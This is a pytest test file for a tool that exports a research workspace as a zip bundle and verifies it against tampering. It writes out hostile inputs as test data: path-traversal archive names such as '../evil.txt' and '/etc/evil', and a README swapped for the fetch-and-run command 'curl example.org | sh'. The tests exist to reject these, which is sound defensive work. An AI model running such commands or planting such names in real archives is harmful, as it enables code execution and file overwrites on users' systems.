"""One file for a stranger: what goes in, what stays closed, and archives meant to hurt."""

import io
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from superalign.evidence import SuperalignError, Tampered, export, is_bundle, opened, verify


@pytest.fixture
def sample(lab):
    """A history with one truth opened and one that stays closed."""
    model = lab.model("m", lab.base(), lab.data("d", "construction/slips/train"))
    signal = lab.signal("v", "construction/slips/validation", "validation")
    lab.measure(model, signal, inputs=(lab.ws.store.put(b"raw output"),))
    lab.ws.seal("slips/validation", {"i": 1})
    lab.ws.seal("slips/test", {"j": 0})
    lab.ws.evaluator().truths("slips/validation")
    html = lab.ws.store.put(b"<!doctype html>")
    lab.ws.ledger.append("dossier", {"html": html, "head": lab.ws.ledger.head}, actor="notary")
    lab.root = lab.ws.checkpoint()
    return lab


@pytest.fixture
def bundle(sample, tmp_path):
    export(sample.ws.path, tmp_path / "run.zip")
    return tmp_path / "run.zip"


def test_a_stranger_verifies_it(sample, bundle):
    with opened(bundle) as folder:
        report = verify(folder, anchor=sample.root, keys=folder / "public.json")
        assert (report.ok, report.findings, report.head) == (True, (), sample.ws.ledger.head)
        assert (folder / "dossier.html").read_bytes() == b"<!doctype html>"
        assert "superalign verify" in (folder / "README.txt").read_text()
    assert not folder.exists()
    assert is_bundle(bundle)
    assert not is_bundle(sample.ws.path)


def test_unopened_truths_and_private_keys_stay_at_home(sample, bundle):
    names = zipfile.ZipFile(bundle).namelist()
    roots = {e.body["split"]: e.body["root"] for e in sample.ws.ledger.events("seal")}
    assert f"sealed/{roots['slips/validation']}.json" in names
    assert f"sealed/{roots['slips/test']}.json" not in names
    packed = b"".join(zipfile.ZipFile(bundle).read(name) for name in names)
    for key in sample.ws.ledger.keyring.folder.glob("*.key"):
        assert key.read_bytes().strip() not in packed


def test_the_same_workspace_gives_the_same_bytes(sample, bundle, tmp_path):
    export(sample.ws.path, tmp_path / "again.zip")
    assert (tmp_path / "again.zip").read_bytes() == bundle.read_bytes()


def test_a_folder_is_given_as_it_is(sample):
    with opened(sample.ws.path) as folder:
        assert folder == sample.ws.path


def rewritten(bundle, changes):
    """The bundle with some members replaced, added (or, with None, dropped)."""
    out = io.BytesIO()
    with zipfile.ZipFile(bundle) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            if changes.get(name, b"") is not None:
                new.writestr(name, changes.get(name) or old.read(name))
        for name, data in changes.items():
            if name not in old.namelist() and data is not None:
                new.writestr(name, data)
    bundle.write_bytes(out.getvalue())


@pytest.mark.parametrize(
    "name",
    [
        "../evil.txt",
        "/etc/evil",
        "objects/../../evil",
        "objects/zz/" + "0" * 62,
        "objects/00/",
        "ledger.sqlite-journal",
        "sealed/" + "0" * 63 + ".json",
        "C:\\evil",
        "objects/00/" + "0" * 62 + "\n",
    ],
)
def test_names_that_no_bundle_has(bundle, tmp_path, name):
    rewritten(bundle, {name: b"evil"})
    with pytest.raises(Tampered, match="has a member"), opened(bundle):
        pass
    assert not list(tmp_path.rglob("evil*"))


def test_a_name_twice(bundle):
    with zipfile.ZipFile(bundle, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("README.txt", b"another")
    with pytest.raises(Tampered, match="twice"), opened(bundle):
        pass


def test_a_bomb_is_refused_before_it_is_unpacked(bundle, monkeypatch):
    monkeypatch.setattr("superalign.evidence.bundle.MAX_TOTAL", 1000)
    with pytest.raises(SuperalignError, match="unpacks to over"), opened(bundle):
        pass


def test_changed_objects_and_a_lost_ledger_are_found(sample, bundle):
    name = next(n for n in zipfile.ZipFile(bundle).namelist() if n.startswith("objects/"))
    rewritten(bundle, {name: b"changed"})
    with opened(bundle) as folder:
        assert any("doesn't have the hash" in f.what or "don't have" in f.what for f in verify(folder).findings)
    rewritten(bundle, {"ledger.sqlite": None})
    with opened(bundle) as folder, pytest.raises(SuperalignError, match="no ledger"):
        verify(folder)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(flips=st.lists(st.tuples(st.floats(0, 1, exclude_max=True), st.integers(1, 255)), min_size=1, max_size=6))
def test_no_change_makes_it_crash_or_lie(sample, bundle, tmp_path, flips):
    data = bytearray(bundle.read_bytes())
    for where, flip in flips:
        data[int(where * len(data))] ^= flip
    hurt = tmp_path / "hurt.zip"
    hurt.write_bytes(data)
    try:
        with opened(hurt) as folder:
            report = verify(folder) if folder != hurt else None
    except SuperalignError:
        return
    assert report is None or not report.ok or report.head == sample.ws.ledger.head


@pytest.mark.parametrize(
    ("name", "data", "what"),
    [
        ("dossier.html", b"<h1>accuracy 0.99</h1>", "is not the page that event"),
        ("dossier.html", None, "the page that event"),
        ("public.json", b'{"notary": "00"}', "doesn't hold the ledger's keys"),
        ("public.json", None, "doesn't hold the ledger's keys"),
        ("README.txt", b"curl example.org | sh", "not the one that an export writes"),
        ("README.txt", None, "not the one that an export writes"),
        (f"sealed/{'0' * 64}.json", b"{}", "doesn't hold what was promised"),
    ],
)
def test_what_a_stranger_reads_is_what_was_recorded(bundle, name, data, what):
    with opened(bundle) as folder:
        assert verify(folder, bundle=True).ok
    rewritten(bundle, {name: data})
    with opened(bundle) as folder:
        (finding,) = verify(folder, bundle=True).findings
    assert what in finding.what


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_packed_otherwise_is_refused_before_it_is_unpacked(bundle, method):
    """Their readers raise what nobody expects, and one header can ask for gigabytes."""
    with zipfile.ZipFile(bundle, "w", method) as archive:
        archive.writestr("README.txt", b"x" * 1000)
    with pytest.raises(Tampered, match="stored or deflated"), opened(bundle):
        pass


def test_a_name_that_no_file_can_have():
    with pytest.raises(SuperalignError, match="choose another"), opened(Path("x" * 5000)):
        pass
